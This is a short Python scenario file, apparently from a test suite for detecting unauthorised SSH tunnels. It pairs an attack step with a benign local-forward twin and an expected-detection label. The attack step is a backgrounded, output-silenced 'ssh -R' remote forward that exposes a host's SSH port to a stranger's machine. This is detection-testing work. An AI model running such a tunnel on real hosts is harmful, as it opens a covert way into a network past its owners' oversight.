"""A way in from outside: a remote forward held open by ssh in the background."""

from __future__ import annotations

from ..scenario import STRANGER, Person, Scenario, Step, Truth

SCENARIO = Scenario(
    number=9,
    title="ssh -R: a port of a host offered outside",
    people=(Person("theo", ("app",)), Person("tina", ("app",))),
    steps=(
        Step(
            "theo",
            f"ssh theo@app 'ssh -fNR 2222:localhost:22 drop@{STRANGER} < /dev/null > /dev/null 2>&1; "
            "sleep 2; pkill -x ssh'",
        ),
    ),
    twin_title="somebody reaches a host of the own fleet through an approved forward",
    twin=(
        Step(
            "tina",
            "ssh -fN -L 127.0.0.1:2345:db:22 tina@app; busybox nc -w 1 127.0.0.1 2345 < /dev/null; "
            "pkill -u tina -f 2345:db",
        ),
    ),
    truth=Truth("theo", ("app",), ("ssh-forward",)),
)
